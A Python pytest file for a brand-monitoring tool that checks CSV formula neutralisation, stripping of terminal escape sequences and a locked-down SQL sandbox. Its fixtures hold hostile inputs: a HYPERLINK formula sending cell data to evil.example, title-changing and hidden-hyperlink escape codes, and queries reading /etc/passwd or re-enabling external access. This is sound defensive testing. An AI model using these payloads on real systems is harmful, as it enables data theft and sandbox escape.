"""Stored text leaving brandpulse: no spreadsheet formulas in CSV, no escape sequences on the terminal, sql offline."""

from __future__ import annotations

import csv
import io
import socket
from datetime import UTC, datetime
from pathlib import Path

import pytest
from helpers.report import sentiment_record
from rich.console import Console
from typer.testing import CliRunner

from flows.alerts.senders import ConsoleSender
from flows.cli.main import app
from models.mention import BrandMatch, Mention
from warehouse import Warehouse, load_mentions, load_scores
from warehouse.alerts.outbox import OutboxRow
from warehouse.safe_output import neutralise_cell, terminal_safe

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# Colours, a window-title change (OSC 0), a hidden hyperlink (OSC 8), a screen clear and a lone C1 CSI.
ESCAPES = (
    "acme \x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ "
    "\x1b[2J\x9b1m end"
)


def hostile(path: Path) -> None:
    """Posts whose text and handle try formulas and terminal escapes; one scored negative (score -0.8)."""
    texts = {"f1": FORMULA, "f2": "+1+1", "f3": "-2+3", "f4": "@SUM(A1)", "f5": "\tTAB", "f6": "\rCR", "e1": ESCAPES}
    wh = Warehouse(path)
    mentions = [
        Mention(channel="x", id=mid, text=text, created_at=datetime(2026, 11, 11, 12, tzinfo=UTC),
                author_handle="\x1b]0;pwned\x07=cmd" if mid == "e1" else "-handle")
        for mid, text in texts.items()
    ]
    with wh.write() as con:
        load_mentions(con, mentions, {m.key: [BrandMatch(brand="Acme", terms=("acme",))] for m in mentions})
        load_scores(con, [(m.key, sentiment_record("negative", -0.8)) for m in mentions])


@pytest.fixture
def project(small_project: Path) -> Path:
    hostile(small_project / "small.duckdb")
    return small_project


def test_cells_are_neutralised_numbers_stay_numbers() -> None:
    assert [neutralise_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "ok", "", None)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "ok", "", None
    ]
    assert neutralise_cell(-0.8) == -0.8 and neutralise_cell(-3) == -3


def test_export_csv_neutralises_formula_cells_unless_raw(project: Path) -> None:
    result = runner.invoke(app, ["export", "--format", "csv", "--out", "bi", "--view", "mentions_scored"])
    assert result.exit_code == 0, result.output
    with (project / "bi" / "mentions_scored.csv").open(encoding="utf-8", newline="") as handle:
        rows = {r["id"]: r for r in csv.DictReader(handle)}
    assert rows["f1"]["text"] == "'" + FORMULA
    texts = {rows[k]["text"] for k in ("f2", "f3", "f4", "f5", "f6")}
    assert texts == {"'+1+1", "'-2+3", "'@SUM(A1)", "'\tTAB", "'\rCR"}
    assert rows["f1"]["author_handle"] == "'-handle"
    assert rows["f1"]["score"] == "-0.8"  # a number, not the text "'-0.8"
    raw = runner.invoke(app, ["export", "--format", "csv", "--out", "raw", "--view", "mentions_scored", "--raw"])
    assert raw.exit_code == 0, raw.output
    with (project / "raw" / "mentions_scored.csv").open(encoding="utf-8", newline="") as handle:
        assert {r["id"]: r["text"] for r in csv.DictReader(handle)}["f1"] == FORMULA


def test_sql_csv_neutralises_unless_raw(project: Path) -> None:
    query = "SELECT id, text, score FROM mentions_scored WHERE id IN ('f1', 'f3') ORDER BY id"
    safe = list(csv.reader(io.StringIO(runner.invoke(app, ["sql", query, "--format", "csv"]).stdout)))
    assert safe == [["id", "text", "score"], ["f1", "'" + FORMULA, "-0.8"], ["f3", "'-2+3", "-0.8"]]
    raw = list(csv.reader(io.StringIO(runner.invoke(app, ["sql", query, "--format", "csv", "--raw"]).stdout)))
    assert raw[1][1] == FORMULA and raw[2][1] == "-2+3"


def test_terminal_safe_strips_sequences_and_keeps_text() -> None:
    assert terminal_safe(ESCAPES) == "acme red  link  end"
    assert terminal_safe("줄 하나\n\t둘 =x") == "줄 하나\n\t둘 =x"
    assert "\x1b" not in terminal_safe("\x1b\x1b[") and terminal_safe("a\x00b\x7fc\x85d") == "abcd"


def test_sql_table_prints_no_escape_sequences(project: Path) -> None:
    result = runner.invoke(app, ["sql", "SELECT text, author_handle FROM mentions WHERE id = 'e1'"])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x9b" not in result.output and "\x07" not in result.output
    assert "red" in result.output and "=cmd" in result.output


def test_console_alert_prints_no_escape_sequences() -> None:
    buffer = io.StringIO()
    now = datetime(2026, 11, 11, tzinfo=UTC)
    row = OutboxRow("k", "Acme", "negative_volume", now, now, 3, 1, 0.01, "Spike \x1b]0;t\x07", ESCAPES, None,
                    "pending", 0, None, None, None, now, None, None)
    ConsoleSender(Console(file=buffer, force_terminal=False, width=200)).send(row)
    printed = buffer.getvalue()
    assert "\x1b" not in printed and "\x07" not in printed and "\x9b" not in printed and "link" in printed


def closed_port() -> int:
    """A local port with nothing listening on it."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.mark.parametrize(
    "query",
    [
        f"SELECT * FROM read_csv('http://127.0.0.1:{closed_port()}/x.csv')",
        "SELECT * FROM read_csv('/etc/passwd')",
        "INSTALL httpfs",
        "SELECT 1; SET enable_external_access = true",
    ],
)
def test_sql_never_reaches_files_network_or_extensions(project: Path, query: str) -> None:
    result = runner.invoke(app, ["sql", query])
    assert result.exit_code == 1
    # The note that no read snapshot exists yet is not part of the error.
    lines = [line for line in result.output.splitlines() if line.strip() and not line.startswith("note:")]
    assert len(lines) == 1 and "Traceback" not in result.output, result.output
    assert any(word in lines[0] for word in ("disabled by configuration", "only read-only", "exactly one"))


def test_the_sandbox_cannot_be_switched_off_from_inside(project: Path) -> None:
    import duckdb

    with Warehouse(project / "small.duckdb").read(sandboxed=True) as con:
        with pytest.raises(duckdb.Error, match="locked"):
            con.execute("SET enable_external_access = true")
        with pytest.raises(duckdb.Error, match="disabled"):
            con.execute("SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')").fetchall()
